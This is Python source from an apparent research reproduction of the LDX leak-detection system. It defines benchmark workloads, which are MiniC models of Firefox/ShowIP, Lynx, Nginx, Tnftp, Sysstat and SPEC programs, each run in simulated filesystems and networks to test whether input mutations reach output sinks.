_BY_NAME: Dict[str, Workload] = {workload.name: workload for workload in ALL_WORKLOADS}


def get_workload(name: str) -> Workload:
    """Look a workload up by name."""
    if name not in _BY_NAME:
        raise WorkloadError(
            f"unknown workload {name!r}; known: {sorted(_BY_NAME)}"
        )
    return _BY_NAME[name]


def workloads_by_category(category: str) -> List[Workload]:
    """All workloads in one of the four benchmark subsets."""
    return [w for w in ALL_WORKLOADS if w.category == category]


def workload_names() -> List[str]:
    return [w.name for w in ALL_WORKLOADS]


# The performance-evaluation subset (Section 8.1 excludes interactive
# firefox/lynx and the trivially short sysstat; we keep their analogues
# out of Figure 6 the same way).
PERF_SUBSET = [
    w.name
    for w in ALL_WORKLOADS
    if w.category == SPEC or w.name in ("nginx", "tnftp")
]

# The Table 2 subset: netsys + SPEC (16 programs).
TABLE2_SUBSET = [w.name for w in NETSYS_WORKLOADS] + [w.name for w in SPEC_WORKLOADS]

# The Table 3 subset: everything except the concurrency set.
TABLE3_SUBSET = [
    w.name for w in ALL_WORKLOADS if w.category != CONCURRENCY
]
