"""Workload framework.

A workload bundles one benchmark program model: MiniC source, the world
it runs in, its default LDX configuration (sources to mutate, sinks to
watch), and the two Table-2 input mutations (one that leaks, one that
does not — or ``None`` when, as for the paper's numeric programs, every
mutation reaches the sinks).
"""

from __future__ import annotations

from typing import Callable, Dict, Optional

from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.errors import WorkloadError
from repro.instrument import InstrumentedModule
from repro.ir.function import IRModule
from repro.vos.world import World

WorldBuilder = Callable[[int], World]
ConfigBuilder = Callable[[], LdxConfig]

# Workload categories, mirroring the paper's four benchmark subsets.
SPEC = "spec"
NETSYS = "netsys"
VULN = "vuln"
CONCURRENCY = "concurrency"


class Workload:
    """One benchmark program model and its experiment wiring."""

    def __init__(
        self,
        name: str,
        category: str,
        description: str,
        source: str,
        build_world: WorldBuilder,
        config: ConfigBuilder,
        leak_config: Optional[ConfigBuilder] = None,
        noleak_config: Optional[ConfigBuilder] = None,
        expected_leak: bool = True,
        modeled_after: str = "",
        threads: int = 1,
        table3_config: Optional[ConfigBuilder] = None,
    ) -> None:
        self.name = name
        self.category = category
        self.description = description
        self.source = source
        self.build_world = build_world
        self._config = config
        self._leak_config = leak_config or config
        self._noleak_config = noleak_config
        self.expected_leak = expected_leak
        self.modeled_after = modeled_after or name
        self.threads = threads
        self._table3_config = table3_config
        self._module: Optional[IRModule] = None
        self._instrumented: Optional[InstrumentedModule] = None

    # -- compiled artifacts (cached) ------------------------------------------

    @property
    def module(self) -> IRModule:
        if self._module is None:
            self._module = self.instrumented.module
        return self._module

    @property
    def instrumented(self) -> InstrumentedModule:
        """The instrumentation artifact, via the process-global
        content-addressed cache (``repro.cache``).  The per-workload
        memo keeps repeat property accesses free even when the global
        cache is disabled or its LRU evicts this entry."""
        if self._instrumented is None:
            from repro import cache

            self._instrumented = cache.instrumented_for(self.source)
            self._module = self._instrumented.module
        return self._instrumented

    # -- configurations -------------------------------------------------------

    def config(self) -> LdxConfig:
        """The default causality-inference configuration."""
        return self._config()

    def leak_variant(self) -> LdxConfig:
        """Table 2 "Input 1": a mutation expected to reach the sinks."""
        return self._leak_config()

    def noleak_variant(self) -> Optional[LdxConfig]:
        """Table 2 "Input 2": a mutation expected NOT to reach the
        sinks; None when no such mutation exists (the paper's 'O / -'
        rows)."""
        if self._noleak_config is None:
            return None
        return self._noleak_config()

    def table3_variant(self) -> LdxConfig:
        """The Table 3 configuration: the default config with the
        strong (every-character) mutation, unless overridden."""
        from repro.core.mutation import global_off_by_one

        if self._table3_config is not None:
            return self._table3_config()
        config = self._config()
        config.mutation = global_off_by_one
        return config

    @property
    def loc(self) -> int:
        return self.source.count("\n") + 1

    def __repr__(self) -> str:
        return f"<Workload {self.name} ({self.category})>"
