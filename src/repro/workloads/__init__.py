"""Benchmark workloads: 28 program models mirroring the paper's suite."""

from repro.workloads.base import CONCURRENCY, NETSYS, SPEC, VULN, Workload
from repro.workloads.registry import (
    ALL_WORKLOADS,
    PERF_SUBSET,
    TABLE2_SUBSET,
    TABLE3_SUBSET,
    get_workload,
    workload_names,
    workloads_by_category,
)

__all__ = [
    "CONCURRENCY",
    "NETSYS",
    "SPEC",
    "VULN",
    "Workload",
    "ALL_WORKLOADS",
    "PERF_SUBSET",
    "TABLE2_SUBSET",
    "TABLE3_SUBSET",
    "get_workload",
    "workload_names",
    "workloads_by_category",
]
