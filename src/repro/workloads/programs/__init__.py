"""MiniC benchmark program models, grouped by the paper's subsets."""
