"""Network/system workloads — the paper's information-leak detection set
(Firefox, Lynx, Nginx, Tnftp, Sysstat).

Networked programs use outgoing network syscalls as sinks; sysstat
(local) uses file outputs — matching Section 8's sink configuration.
The Firefox model mirrors the Section 8.4 case study: an event loop
plus a script-engine-like extension (ShowIP) that reports the current
URL to a remote server.
"""

from __future__ import annotations

from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.vos.world import World
from repro.workloads.base import NETSYS, Workload


def _line_mutator(prefix: str):
    """Mutate only input lines starting with *prefix* (off-by-one on
    the first data character after the prefix)."""

    def mutate(value):
        if isinstance(value, str) and value.startswith(prefix):
            rest = value[len(prefix) :]
            for index, ch in enumerate(rest):
                if ch.isalnum():
                    shifted = chr(ord(ch) + 1)
                    if not shifted.isalnum():
                        shifted = "a"
                    return value[: len(prefix) + index] + shifted + rest[index + 1 :]
        return value

    return mutate


# ---------------------------------------------------------------------------
# Firefox — event loop + ShowIP extension (Section 8.4 case study).
# ---------------------------------------------------------------------------

FIREFOX_SOURCE = """
var page_count = 0;
var click_count = 0;

fn handle_load(arg) {
  // Fetch the page and render it locally.
  var sock = socket();
  connect(sock, "web.example", 80);
  send(sock, "GET " + arg);
  var body = recv(sock, 64);
  close(sock);
  var screen = open("/home/user/screen.txt", "a");
  write(screen, "[page] " + body + "\\n");
  close(screen);
  page_count = page_count + 1;
  // ShowIP extension hook: report the current URL to its server.
  var ext = socket();
  connect(ext, "showip.example", 80);
  send(ext, "lookup " + arg);
  recv(ext, 16);
  close(ext);
  return 0;
}

fn handle_click(arg) {
  click_count = click_count + 1;
  var screen = open("/home/user/screen.txt", "a");
  write(screen, "[click] " + arg + "\\n");
  close(screen);
  return 0;
}

fn handle_scroll(arg) {
  var screen = open("/home/user/screen.txt", "a");
  write(screen, "[scroll]\\n");
  close(screen);
  return 0;
}

fn main() {
  var kinds = ["load", "click", "scroll"];
  var handlers = [handle_load, handle_click, handle_scroll];
  var line = read_line(0);
  while (len(line) > 0) {
    var parts = str_split(str_strip(line), " ");
    var which = index_of(kinds, parts[0]);
    if (which >= 0) {
      var handler = handlers[which];
      var arg = "";
      if (len(parts) > 1) { arg = parts[1]; }
      handler(arg);
    }
    line = read_line(0);
  }
  var screen = open("/home/user/screen.txt", "a");
  write(screen, "session: " + page_count + " pages, " + click_count + " clicks\\n");
  close(screen);
}
"""


def _firefox_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.stdin = (
        "load intranet.corp/payroll\n"
        "click submit\n"
        "scroll\n"
        "load news.example/front\n"
        "click next\n"
    )
    world.fs.add_file("/home/user/screen.txt", "")
    world.network.register("web.example", 80, lambda req: f"<html>{req[4:20]}</html>")
    world.network.register("showip.example", 80, lambda req: "93.184.216.34")
    return world


def _firefox_leak() -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(stdin=True, mutators={"stdin": _line_mutator("load ")}),
        sinks=SinkSpec.network_out(),
    )


def _firefox_noleak() -> LdxConfig:
    # Clicks update local state and the screen only; they never reach
    # the network sinks.
    return LdxConfig(
        sources=SourceSpec(stdin=True, mutators={"stdin": _line_mutator("click ")}),
        sinks=SinkSpec.network_out(),
    )


FIREFOX = Workload(
    name="firefox",
    category=NETSYS,
    description="event loop + ShowIP extension leaking the current URL",
    source=FIREFOX_SOURCE,
    build_world=_firefox_world,
    config=_firefox_leak,
    leak_config=_firefox_leak,
    noleak_config=_firefox_noleak,
    modeled_after="Firefox + ShowIP 1.2rc5",
)


# ---------------------------------------------------------------------------
# Lynx — text browser: cookies ride along on every request.
# ---------------------------------------------------------------------------

LYNX_SOURCE = """
fn main() {
  var rc = open("/home/user/.lynxrc", "r");
  var color_mode = parse_int(str_strip(read_line(rc)));
  close(rc);
  var jar = open("/home/user/.cookies", "r");
  var cookie = str_strip(read(jar, 64));
  close(jar);
  var url = str_strip(read_line(0));
  var sock = socket();
  connect(sock, "web.example", 80);
  send(sock, "GET " + url + " Cookie: " + cookie);
  var body = recv(sock, 128);
  close(sock);
  var screen = open("/home/user/screen.txt", "w");
  if (color_mode > 0) {
    write(screen, "[color] " + body + "\\n");
  } else {
    write(screen, body + "\\n");
  }
  close(screen);
  var history = open("/home/user/.lynx_history", "a");
  write(history, url + "\\n");
  close(history);
}
"""


def _lynx_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.stdin = "wiki.example/Main_Page\n"
    world.fs.add_file("/home/user/.cookies", "session=k8d3aa91\n")
    world.fs.add_file("/home/user/.lynxrc", "1\n")
    world.fs.add_file("/home/user/screen.txt", "")
    world.fs.add_file("/home/user/.lynx_history", "")
    world.network.register("web.example", 80, lambda req: f"<page for {req[:24]}>")
    return world


LYNX = Workload(
    name="lynx",
    category=NETSYS,
    description="text browser attaching cookies to requests",
    source=LYNX_SOURCE,
    build_world=_lynx_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/home/user/.cookies"}),
        sinks=SinkSpec.network_out(),
    ),
    leak_config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/home/user/.cookies"}),
        sinks=SinkSpec.network_out(),
    ),
    noleak_config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/home/user/.lynxrc"}),
        sinks=SinkSpec.network_out(),
    ),
    modeled_after="Lynx 2.8.8",
)


# ---------------------------------------------------------------------------
# Nginx — server loop answering requests pulled from a client pool.
# ---------------------------------------------------------------------------

NGINX_SOURCE = """
fn read_config(names, values) {
  var f = open("/etc/nginx/nginx.conf", "r");
  var line = read_line(f);
  while (len(line) > 0) {
    var parts = str_split(str_strip(line), " ");
    if (len(parts) == 2) {
      push(names, parts[0]);
      push(values, parts[1]);
    }
    line = read_line(f);
  }
  close(f);
  return 0;
}

fn config_get(names, values, name, fallback) {
  var i = index_of(names, name);
  if (i < 0) { return fallback; }
  return values[i];
}

fn main() {
  var names = [];
  var values = [];
  read_config(names, values);
  var server_name = config_get(names, values, "server_name", "localhost");
  var workers = parse_int(config_get(names, values, "workers", "1"));
  var root = config_get(names, values, "root", "/www");

  var log = open("/var/log/nginx/access.log", "a");
  for (var w = 0; w < workers; w = w + 1) {
    write(log, "worker " + w + " ready\\n");
  }

  var clients = socket();
  connect(clients, "clientpool.example", 9000);
  var served = 0;
  for (var i = 0; i < 4; i = i + 1) {
    send(clients, "next" + i);
    var request = recv(clients, 32);
    if (len(request) == 0) { break; }
    var path = root + "/" + request;
    var fd = open(path, "r");
    var body = "404 not found";
    var status = "404";
    if (fd >= 0) {
      body = read(fd, 128);
      close(fd);
      status = "200";
    }
    send(clients, "HTTP/1.1 " + status + " Server: " + server_name + " " + body);
    write(log, request + " -> " + status + "\\n");
    served = served + 1;
  }
  close(clients);
  write(log, "served " + served + "\\n");
  close(log);
}
"""


def _nginx_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/etc/nginx/nginx.conf",
        "server_name corp-internal\nworkers 2\nroot /www\n",
    )
    world.fs.add_file("/www/index.html", "<h1>welcome</h1>")
    world.fs.add_file("/www/status.html", "<p>all good</p>")
    world.fs.add_file("/var/log/nginx/access.log", "")
    requests = ["index.html", "status.html", "missing.html", "index.html"]

    def pool_script(request: str) -> str:
        # Stateless: the client polls with "next<i>" so master and
        # slave clones of this endpoint stay independent.
        if request.startswith("next"):
            index = int(request[len("next") :] or 0)
            if 0 <= index < len(requests):
                return requests[index]
        return ""

    world.network.register("clientpool.example", 9000, pool_script)
    return world


def _nginx_config(line_prefix: str) -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(
            file_paths={"/etc/nginx/nginx.conf"},
            mutators={"file:/etc/nginx/nginx.conf": _line_mutator(line_prefix)},
        ),
        sinks=SinkSpec.network_out(),
    )


NGINX = Workload(
    name="nginx",
    category=NETSYS,
    description="HTTP server: config shapes response headers",
    source=NGINX_SOURCE,
    build_world=_nginx_world,
    config=lambda: _nginx_config("server_name "),
    leak_config=lambda: _nginx_config("server_name "),
    noleak_config=lambda: _nginx_config("workers "),
    modeled_after="Nginx 1.4.0",
)


# ---------------------------------------------------------------------------
# Tnftp — FTP client sending credentials from ~/.netrc.
# ---------------------------------------------------------------------------

TNFTP_SOURCE = """
fn main() {
  var netrc = open("/home/user/.netrc", "r");
  var user = str_strip(read_line(netrc));
  var password = str_strip(read_line(netrc));
  close(netrc);
  var prefs = open("/home/user/.ftprc", "r");
  var mode = str_strip(read(prefs, 16));
  close(prefs);
  var target = str_strip(read_line(0));

  var sock = socket();
  connect(sock, "ftp.example", 21);
  send(sock, "USER " + user);
  recv(sock, 16);
  send(sock, "PASS " + password);
  var ack = recv(sock, 16);
  var out_name = "/home/user/download.dat";
  if (mode == "ascii") {
    out_name = "/home/user/download.txt";
  }
  if (starts_with(ack, "230")) {
    send(sock, "RETR " + target);
    var data = recv(sock, 128);
    var out = open(out_name, "w");
    write(out, data);
    close(out);
  }
  close(sock);
}
"""


def _tnftp_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.stdin = "report.pdf\n"
    world.fs.add_file("/home/user/.netrc", "alice\nhunter2\n")
    world.fs.add_file("/home/user/.ftprc", "ascii\n")

    def ftp_script(request: str) -> str:
        if request.startswith("USER"):
            return "331 "
        if request.startswith("PASS"):
            return "230 login ok   "[:16]
        if request.startswith("RETR"):
            return "%PDF-1.4 contents of " + request[5:]
        return "500 "

    world.network.register("ftp.example", 21, ftp_script)
    return world


TNFTP = Workload(
    name="tnftp",
    category=NETSYS,
    description="FTP client sending ~/.netrc credentials",
    source=TNFTP_SOURCE,
    build_world=_tnftp_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/home/user/.netrc"}),
        sinks=SinkSpec.network_out(),
    ),
    leak_config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/home/user/.netrc"}),
        sinks=SinkSpec.network_out(),
    ),
    noleak_config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/home/user/.ftprc"}),
        sinks=SinkSpec.network_out(),
    ),
    modeled_after="Tnftp 20130505",
)


# ---------------------------------------------------------------------------
# Sysstat — /proc statistics summarizer (local file sinks).
# ---------------------------------------------------------------------------

SYSSTAT_SOURCE = """
fn main() {
  var conf = open("/etc/sysstat.conf", "r");
  var history = parse_int(str_strip(read(conf, 8)));
  close(conf);
  var statf = open("/proc/stat", "r");
  var user_total = 0;
  var sys_total = 0;
  var cpus = 0;
  var line = read_line(statf);
  while (len(line) > 0) {
    var parts = str_split(str_strip(line), " ");
    if (starts_with(parts[0], "cpu")) {
      user_total = user_total + parse_int(parts[1]);
      sys_total = sys_total + parse_int(parts[2]);
      cpus = cpus + 1;
    }
    line = read_line(statf);
  }
  close(statf);
  var out = open("/var/log/sa/sa01", "w");
  write(out, "cpus " + cpus + "\\n");
  write(out, "avg-user " + user_total / cpus + "\\n");
  write(out, "avg-sys " + sys_total / cpus + "\\n");
  if (history > 60) {
    write(out, "rotating old history\\n");
  }
  close(out);
}
"""


def _proc_stat_mutator(value):
    """Perturb the first counter value (after the cpu label), leaving
    the "cpuN" label intact so the line still parses."""
    if not isinstance(value, str):
        return value
    space = value.find(" ")
    if space < 0:
        return value
    for index in range(space + 1, len(value)):
        if value[index].isdigit():
            bumped = str((int(value[index]) + 1) % 10)
            return value[:index] + bumped + value[index + 1 :]
    return value


def _proc_stat_strong_mutator(value):
    """Bump every counter digit (Table 3's all-bytes perturbation),
    keeping the cpuN labels parseable."""
    if not isinstance(value, str):
        return value
    space = value.find(" ")
    if space < 0:
        return value
    head, tail = value[: space + 1], value[space + 1 :]
    bumped = "".join(
        str((int(ch) + 1) % 10) if ch.isdigit() else ch for ch in tail
    )
    return head + bumped


def _sysstat_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/proc/stat",
        "cpu0 420 96\ncpu1 381 102\ncpu2 455 88\ncpu3 402 91\n",
    )
    world.fs.add_file("/etc/sysstat.conf", "28\n")
    return world


SYSSTAT = Workload(
    name="sysstat",
    category=NETSYS,
    description="/proc statistics summarizer",
    source=SYSSTAT_SOURCE,
    build_world=_sysstat_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(
            file_paths={"/proc/stat"},
            mutators={"file:/proc/stat": _proc_stat_mutator},
        ),
        sinks=SinkSpec.file_out(),
    ),
    leak_config=lambda: LdxConfig(
        sources=SourceSpec(
            file_paths={"/proc/stat"},
            mutators={"file:/proc/stat": _proc_stat_mutator},
        ),
        sinks=SinkSpec.file_out(),
    ),
    noleak_config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/etc/sysstat.conf"}),
        sinks=SinkSpec.file_out(),
    ),
    table3_config=lambda: LdxConfig(
        sources=SourceSpec(
            file_paths={"/proc/stat"},
            mutators={"file:/proc/stat": _proc_stat_strong_mutator},
        ),
        sinks=SinkSpec.file_out(),
    ),
    modeled_after="Sysstat 10.1.5",
)


NETSYS_WORKLOADS = [FIREFOX, LYNX, NGINX, TNFTP, SYSSTAT]
