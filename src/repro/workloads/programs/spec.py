"""SPECINT2006-modelled workloads (the paper's first benchmark subset).

Each program is a structural model of its namesake: the same kind of
computation (interpretation, compression, preprocessing, search, DP,
simulation), the same syscall shape (read inputs, compute, write
results), exercising the language features Table 1 reports (loops,
recursion, indirect calls).  Sinks are local file outputs, sources are
the reference input files — exactly the paper's configuration for
SPEC.

Table 2 wiring: the *leak* variant mutates the main input (always
reaches the output); the *no-leak* variant mutates a secondary input
that the program reads but whose value cannot reach the output.  The
four numeric programs (hmmer, libquantum, omnetpp, astar) have no
no-leak variant — any input mutation reaches the sink (the paper's
'O / -' rows).
"""

from __future__ import annotations

from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.vos.world import World
from repro.workloads.base import SPEC, Workload


def _config(paths) -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(file_paths=set(paths)),
        sinks=SinkSpec.file_out(),
    )


# ---------------------------------------------------------------------------
# 400.perlbench — a tiny script interpreter (indirect dispatch, recursion).
# ---------------------------------------------------------------------------

PERLBENCH_SOURCE = """
fn op_set(env, name, value) {
  var i = index_of(env[0], name);
  if (i < 0) {
    push(env[0], name);
    push(env[1], value);
  } else {
    env[1][i] = value;
  }
  return 0;
}

fn op_get(env, name) {
  var i = index_of(env[0], name);
  if (i < 0) { return 0; }
  return env[1][i];
}

fn eval_expr(env, tokens, pos) {
  // Recursive descent over "+"/"*" prefix expressions:
  //   expr := num | var | (+ expr expr) | (* expr expr)
  var tok = tokens[pos];
  if (tok == "+") {
    var left = eval_expr(env, tokens, pos + 1);
    var right = eval_expr(env, tokens, left[1]);
    return [left[0] + right[0], right[1]];
  }
  if (tok == "*") {
    var mleft = eval_expr(env, tokens, pos + 1);
    var mright = eval_expr(env, tokens, mleft[1]);
    return [mleft[0] * mright[0], mright[1]];
  }
  var n = parse_int(tok);
  if (is_nil(n)) {
    return [op_get(env, tok), pos + 1];
  }
  return [n, pos + 1];
}

fn run_line(env, line, out) {
  var words = str_split(str_strip(line), " ");
  if (len(words) == 0) { return 0; }
  var cmd = words[0];
  if (cmd == "#" or cmd == "") { return 0; }
  if (cmd == "set") {
    var v = eval_expr(env, slice(words, 2, len(words)), 0);
    op_set(env, words[1], v[0]);
    return 0;
  }
  if (cmd == "print") {
    write(out, words[1] + "=" + op_get(env, words[1]) + "\\n");
    return 0;
  }
  if (cmd == "ifgt") {
    // ifgt var threshold label: print label when var > threshold
    if (op_get(env, words[1]) > parse_int(words[2])) {
      write(out, words[3] + "\\n");
    }
    return 0;
  }
  return 0;
}

fn main() {
  var script = open("/spec/perl/script.pl", "r");
  var data = open("/spec/perl/data.txt", "r");
  var notes = open("/spec/perl/notes.txt", "r");
  var noise = read(notes, 64);
  close(notes);
  // The notes are reference metadata (the no-leak mutation target):
  // required to exist, but their content must not reach the output.
  if (len(noise) == 0) { return; }
  var out = open("/spec/perl/out.txt", "w");
  var env = [[], []];
  // Pre-load the data file values as d0, d1, ...
  var index = 0;
  var line = read_line(data);
  while (len(line) > 0) {
    op_set(env, "d" + index, parse_int(str_strip(line)));
    index = index + 1;
    line = read_line(data);
  }
  close(data);
  line = read_line(script);
  while (len(line) > 0) {
    run_line(env, line, out);
    line = read_line(script);
  }
  close(script);
  close(out);
}
"""


def _perlbench_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/spec/perl/script.pl",
        "set total + d0 * d1 2\n"
        "set half total\n"
        "print total\n"
        "ifgt total 50 big\n"
        "print half\n",
    )
    world.fs.add_file("/spec/perl/data.txt", "17\n4\n")
    world.fs.add_file("/spec/perl/notes.txt", "reference input set, rev 104\n")
    return world


PERLBENCH = Workload(
    name="perlbench",
    category=SPEC,
    description="script interpreter: recursive expression evaluation",
    source=PERLBENCH_SOURCE,
    build_world=_perlbench_world,
    config=lambda: _config(["/spec/perl/data.txt"]),
    leak_config=lambda: _config(["/spec/perl/data.txt"]),
    noleak_config=lambda: _config(["/spec/perl/notes.txt"]),
    modeled_after="400.perlbench",
)


# ---------------------------------------------------------------------------
# 401.bzip2 — run-length + dictionary compressor.
# ---------------------------------------------------------------------------

BZIP2_SOURCE = """
fn rle_encode(data) {
  var out = "";
  var i = 0;
  while (i < len(data)) {
    var ch = data[i];
    var run = 1;
    while (i + run < len(data) and data[i + run] == ch and run < 9) {
      run = run + 1;
    }
    out = out + run + ch;
    i = i + run;
  }
  return out;
}

fn checksum(data) {
  var sum = 0;
  for (var i = 0; i < len(data); i = i + 1) {
    sum = i32_add(i32_mul(sum, 31), ord(data[i]));
  }
  return sum % 65536;
}

fn main() {
  var cfg = open("/spec/bzip2/level.cfg", "r");
  var level = parse_int(str_strip(read(cfg, 8)));
  close(cfg);
  var f = open("/spec/bzip2/input.dat", "r");
  var out = open("/spec/bzip2/output.bz", "w");
  var block = read(f, 64);
  var blocks = 0;
  while (len(block) > 0) {
    var encoded = rle_encode(block);
    // Higher levels re-encode once more (only kicks in above 8).
    if (level > 8) {
      encoded = rle_encode(encoded);
    }
    write(out, encoded + "|");
    blocks = blocks + 1;
    block = read(f, 64);
  }
  write(out, "CRC" + checksum("done" + blocks));
  close(f);
  close(out);
}
"""


def _bzip2_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/spec/bzip2/input.dat",
        "aaaabbbcccccabcabc" * 6 + "zzzzyyyyxxxx" * 4,
    )
    world.fs.add_file("/spec/bzip2/level.cfg", "5\n")
    return world


BZIP2 = Workload(
    name="bzip2",
    category=SPEC,
    description="run-length block compressor",
    source=BZIP2_SOURCE,
    build_world=_bzip2_world,
    config=lambda: _config(["/spec/bzip2/input.dat"]),
    leak_config=lambda: _config(["/spec/bzip2/input.dat"]),
    noleak_config=lambda: _config(["/spec/bzip2/level.cfg"]),
    modeled_after="401.bzip2",
)


# ---------------------------------------------------------------------------
# 403.gcc — a C preprocessor model (the Section 8.4 case study shape).
# ---------------------------------------------------------------------------

GCC_SOURCE = """
fn lookup_define(names, values, name) {
  var i = index_of(names, name);
  if (i < 0) { return nil; }
  return values[i];
}

fn main() {
  // -D style configuration: "NAME VALUE" lines (the secret source).
  var defs = open("/spec/gcc/defines.cfg", "r");
  var names = [];
  var values = [];
  var line = read_line(defs);
  while (len(line) > 0) {
    var parts = str_split(str_strip(line), " ");
    if (len(parts) == 2) {
      push(names, parts[0]);
      push(values, parse_int(parts[1]));
    }
    line = read_line(defs);
  }
  close(defs);

  var src = open("/spec/gcc/input.c", "r");
  var out = open("/spec/gcc/preprocessed.i", "w");
  // skipping-depth stack like cpplib's pfile->state.skipping
  var skipping = 0;
  var depth = 0;
  line = read_line(src);
  while (len(line) > 0) {
    var stripped = str_strip(line);
    if (starts_with(stripped, "#if ")) {
      depth = depth + 1;
      var name = substr(stripped, 4, len(stripped));
      var value = lookup_define(names, values, name);
      var skip = 0;
      if (is_nil(value)) { skip = 1; }
      else {
        if (value == 0) { skip = 1; }
      }
      if (skipping == 0 and skip == 1) { skipping = depth; }
    } else {
      if (starts_with(stripped, "#endif")) {
        if (skipping == depth) { skipping = 0; }
        depth = depth - 1;
      } else {
        if (skipping == 0) {
          write(out, line);
        }
      }
    }
    line = read_line(src);
  }
  close(src);
  close(out);
  print("done");
}
"""


def _gcc_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/spec/gcc/defines.cfg",
        "NGX_HAVE_POLL 1\nNGX_HAVE_EPOLL 0\nNGX_DEBUG 0\n",
    )
    world.fs.add_file(
        "/spec/gcc/input.c",
        "#if NGX_HAVE_POLL\n"
        "#include <poll.h>\n"
        "static int use_poll = 1;\n"
        "#endif\n"
        "#if NGX_DEBUG\n"
        "static int debug = 1;\n"
        "#endif\n"
        "int main() { return events(); }\n",
    )
    return world


def _gcc_noleak_config() -> LdxConfig:
    # Mutate NGX_DEBUG's value 0 -> 1?  That would leak.  Instead the
    # no-leak variant perturbs a define *name* character in a definition
    # that is never referenced; implemented as a custom mutator that
    # rewrites the unused third define's name.
    def mutate(value):
        if isinstance(value, str):
            return value.replace("NGX_DEBUG", "NGX_DEBUH")
        return value

    return LdxConfig(
        sources=SourceSpec(
            file_paths={"/spec/gcc/defines.cfg"},
            mutators={"file:/spec/gcc/defines.cfg": mutate},
        ),
        sinks=SinkSpec.file_out(),
    )


GCC = Workload(
    name="gcc",
    category=SPEC,
    description="C preprocessor: #if handling over a define table",
    source=GCC_SOURCE,
    build_world=_gcc_world,
    config=lambda: _config(["/spec/gcc/defines.cfg"]),
    leak_config=lambda: _config(["/spec/gcc/defines.cfg"]),
    noleak_config=_gcc_noleak_config,
    modeled_after="403.gcc",
)


# ---------------------------------------------------------------------------
# 429.mcf — greedy minimum-cost assignment over a cost matrix.
# ---------------------------------------------------------------------------

MCF_SOURCE = """
fn cheapest_free(costs, taken, row, n) {
  var best = -1;
  var best_cost = 999999;
  for (var j = 0; j < n; j = j + 1) {
    if (taken[j] == 0 and costs[row * n + j] < best_cost) {
      best = j;
      best_cost = costs[row * n + j];
    }
  }
  return best;
}

fn main() {
  var hdr = open("/spec/mcf/size.txt", "r");
  var n = parse_int(str_strip(read(hdr, 8)));
  close(hdr);
  var f = open("/spec/mcf/matrix.txt", "r");
  var meta = open("/spec/mcf/meta.txt", "r");
  var label = str_strip(read(meta, 32));
  close(meta);
  // Instance label (the no-leak mutation target): must be present,
  // must not influence the assignment result.
  if (len(label) == 0) { return; }
  var costs = [];
  for (var i = 0; i < n * n; i = i + 1) {
    push(costs, parse_int(str_strip(read_line(f))));
  }
  close(f);
  var taken = list_new(n, 0);
  var total = 0;
  for (var row = 0; row < n; row = row + 1) {
    var j = cheapest_free(costs, taken, row, n);
    taken[j] = 1;
    total = total + costs[row * n + j];
  }
  var out = open("/spec/mcf/result.txt", "w");
  write(out, "assignment-cost " + total + "\\n");
  close(out);
}
"""


def _mcf_world(seed: int = 1) -> World:
    world = World(seed=seed)
    values = [((i * 7 + 3) % 19) + 1 for i in range(16)]
    world.fs.add_file("/spec/mcf/size.txt", "4\n")
    world.fs.add_file(
        "/spec/mcf/matrix.txt", "".join(f"{v}\n" for v in values)
    )
    world.fs.add_file("/spec/mcf/meta.txt", "inp.in rev 2\n")
    return world


MCF = Workload(
    name="mcf",
    category=SPEC,
    description="greedy min-cost assignment",
    source=MCF_SOURCE,
    build_world=_mcf_world,
    config=lambda: _config(["/spec/mcf/matrix.txt"]),
    leak_config=lambda: _config(["/spec/mcf/matrix.txt"]),
    noleak_config=lambda: _config(["/spec/mcf/meta.txt"]),
    modeled_after="429.mcf",
)


# ---------------------------------------------------------------------------
# 445.gobmk — board scoring: count group liberties on a small board.
# ---------------------------------------------------------------------------

GOBMK_SOURCE = """
fn at(board, size, row, col) {
  if (row < 0 or row >= size or col < 0 or col >= size) { return "#"; }
  return board[row][col];
}

fn liberties(board, size, row, col) {
  var libs = 0;
  if (at(board, size, row - 1, col) == ".") { libs = libs + 1; }
  if (at(board, size, row + 1, col) == ".") { libs = libs + 1; }
  if (at(board, size, row, col - 1) == ".") { libs = libs + 1; }
  if (at(board, size, row, col + 1) == ".") { libs = libs + 1; }
  return libs;
}

fn main() {
  var f = open("/spec/gobmk/board.sgf", "r");
  var book = open("/spec/gobmk/book.dat", "r");
  var opening = read(book, 32);
  close(book);
  // Opening book (the no-leak mutation target): required, unused by
  // the scoring below.
  if (len(opening) == 0) { return; }
  var board = [];
  var line = read_line(f);
  while (len(line) > 0) {
    push(board, str_split(str_strip(line), ""));
    line = read_line(f);
  }
  close(f);
  var size = len(board);
  var black = 0;
  var white = 0;
  for (var r = 0; r < size; r = r + 1) {
    for (var c = 0; c < size; c = c + 1) {
      var stone = board[r][c];
      if (stone == "X") { black = black + liberties(board, size, r, c); }
      if (stone == "O") { white = white + liberties(board, size, r, c); }
    }
  }
  var out = open("/spec/gobmk/score.txt", "w");
  write(out, "black-libs " + black + "\\n");
  write(out, "white-libs " + white + "\\n");
  if (black > white) { write(out, "favor B\\n"); }
  else { write(out, "favor W\\n"); }
  close(out);
}
"""


def _gobmk_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/spec/gobmk/board.sgf",
        ".X.O.\nXXO..\n.OOX.\nX..XO\n.O.X.\n",
    )
    world.fs.add_file("/spec/gobmk/book.dat", "fuseki-3-4;joseki-a\n")
    return world


